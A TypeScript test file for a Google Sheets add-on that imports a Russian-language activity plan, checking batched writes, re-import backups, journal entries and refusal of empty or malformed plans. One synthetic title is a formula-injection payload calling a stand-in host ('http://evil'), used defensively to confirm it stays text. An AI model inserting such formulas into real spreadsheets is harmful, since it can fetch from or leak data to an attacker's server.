import type { Activity, PlanImport } from '../../src/core/plan/types';
import { loadAddon, scriptRunClone } from '../../tools/playground/addon';
import { displayed, journalMachine, refused, SEEDS, seeded, seedPlan } from './helpers';

const synthetic = (n: number): PlanImport => ({
  title: 'Синтетический план',
  horizonYear: null,
  unrecognized: [],
  warnings: [],
  activities: Array.from(
    { length: n },
    (_, i): Activity => ({
      id: `s${i}`,
      number: String(i + 1),
      stage: `Этап ${1 + Math.floor(i / 500)}`,
      section: null,
      group: null,
      title: i === 0 ? '=IMPORTXML("http://evil","//a")' : `Мероприятие номер ${i + 1}`,
      result: null,
      tools: null,
      responsible: 'Директор',
      deadline: {
        text: '01.03.2021',
        start: '2021-03-01',
        end: '2021-03-01',
        recurrence: 'none',
        inherited: false,
        problem: null,
      },
    }),
  ),
});

describe('import into the План tab (built add-on on the emulator)', () => {
  it.each(SEEDS)('%s: writes every activity in one batch, within 15 spreadsheet calls', (name) => {
    const addon = loadAddon();
    addon.emu.calls.reset();
    const plan = seedPlan(name);
    const r = addon.call('importApply', scriptRunClone({ plan }, 'importApply')) as { activities: number };
    expect(r.activities).toBe(plan.activities.length);
    expect(addon.emu.calls.spreadsheet()).toBeLessThanOrEqual(15);
    const rows = displayed(addon, 'План');
    expect(rows[0][0]).toBe('ID');
    const ids = rows
      .slice(1)
      .map((r) => r[0])
      .filter(Boolean);
    expect(ids).toEqual(plan.activities.map((a) => a.id));
    expect(addon.emu.formulaCells()).toEqual([]);
  });

  it('a 5,000-activity plan costs the same number of calls, and a formula-like title stays text', () => {
    const addon = loadAddon();
    addon.emu.calls.reset();
    addon.call('importApply', scriptRunClone({ plan: synthetic(5000) }, 'importApply'));
    expect(addon.emu.calls.spreadsheet()).toBeLessThanOrEqual(15);
    const rows = displayed(addon, 'План');
    expect(rows.slice(1).filter((r) => r[0]).length).toBe(5000);
    expect(rows[1][5]).toBe('=IMPORTXML("http://evil","//a")');
    expect(addon.emu.formulaCells()).toEqual([]);
  });

  it('re-import keeps statuses, adds new activities, keeps vanished ones and the previous tab as a copy', () => {
    const addon = seeded('plan-dou-vsoko-2021');
    const ss = addon.emu.spreadsheet;
    const plan = ss.getSheetByName('План')!;
    const header = plan.getRange(1, 1, 1, plan.getLastColumn()).getValues()[0];
    const statusCol = header.indexOf('Статус') + 1;
    plan.getRange(2, statusCol).setValue('Выполнено');
    const firstId = plan.getRange(2, 1).getValue();
    const next = seedPlan('plan-dou-vsoko-2021');
    next.activities = next.activities.slice(1); // one activity vanished from the new version…
    next.activities.push({ ...next.activities[0], id: 'new-one', number: '9', title: 'Новое мероприятие' });
    const r = addon.call('importApply', scriptRunClone({ plan: next }, 'importApply')) as {
      kept: number;
      added: number;
      vanished: number;
      backup: string;
    };
    expect(r).toMatchObject({ kept: 9, added: 1, vanished: 1 });
    expect(r.backup).toMatch(/^План \(до импорта \d\d\.\d\d\.\d{4} \d\d:\d\d\)$/);
    const names = addon.emu.snapshot().sheets.map((s) => s.name);
    expect(names).toContain(r.backup);
    const rows = displayed(addon, 'План');
    const kept = rows.find((row) => row[0] === firstId)!;
    expect(kept[statusCol - 1]).toBe('Выполнено'); // the vanished one keeps its status too
    expect(rows.some((row) => row[5] === 'Новое мероприятие')).toBe(true);
    const journal = journalMachine(displayed(addon, 'Журнал'));
    expect(journal.filter((j) => j[3] === 'импорт плана')).toHaveLength(2);
  });

  it('re-importing again and again keeps one undo copy, named with the date, and says so in the Журнал (issue 16)', () => {
    const addon = seeded('plan-dou-vsoko-2021');
    const backups: string[] = [];
    for (let i = 0; i < 3; i++) {
      addon.emu.setNow(`2021-02-0${i + 1}T09:00:00Z`);
      const r = addon.call('importApply', scriptRunClone({ plan: seedPlan('plan-dou-vsoko-2021') }, 'importApply')) as {
        backup: string;
      };
      backups.push(r.backup);
    }
    const names = addon.emu.snapshot().sheets.map((s) => s.name);
    expect(names.filter((n) => n.startsWith('План (до импорта'))).toEqual([backups[2]]);
    const journal = displayed(addon, 'Журнал').map((r) => r.join(' | '));
    const last = journal.filter((j) => j.includes('импорт плана')).pop()!;
    expect(last).toContain(`Прежняя версия — на вкладке «${backups[2]}»; хранится только последняя копия`);
    expect(last).toContain(`удалены более старые: «${backups[1]}»`);
  });

  it('refuses a plan with no activities before anything is written: the current План keeps every row (issue 16)', () => {
    const addon = seeded('plan-dou-vsoko-2021');
    const before = addon.emu.snapshot();
    const empty = { ...seedPlan('plan-dou-vsoko-2021'), activities: [] };
    const reply = addon.call('importApply', scriptRunClone({ plan: empty }, 'importApply'));
    expect(refused(reply, 'invalid')).toMatch(
      /не найдено ни одного мероприятия: импортировать нечего\. Ничего не записано/,
    );
    expect(addon.emu.snapshot()).toEqual(before);
  });

  it('refuses a malformed request with a Russian message and writes nothing', () => {
    const addon = loadAddon();
    expect(refused(addon.call('importApply', { plan: { activities: 'нет' } }), 'invalid')).toMatch(
      /Неверные данные импорта/,
    );
    expect(addon.emu.snapshot().sheets.map((s) => s.name)).toEqual(['Лист1']);
  });
});

describe('«Импорт плана…»', () => {
  it('opens the built import dialog (dist/import.html) as a modal dialog', () => {
    const addon = loadAddon();
    addon.call('menuImport');
    const d = addon.emu.ui.dialogs.at(-1)!;
    expect(d.title).toMatch(/Импорт плана/);
    expect(d.html).toContain('importApply');
    expect(d.html.length).toBeGreaterThan(10_000);
  });
});
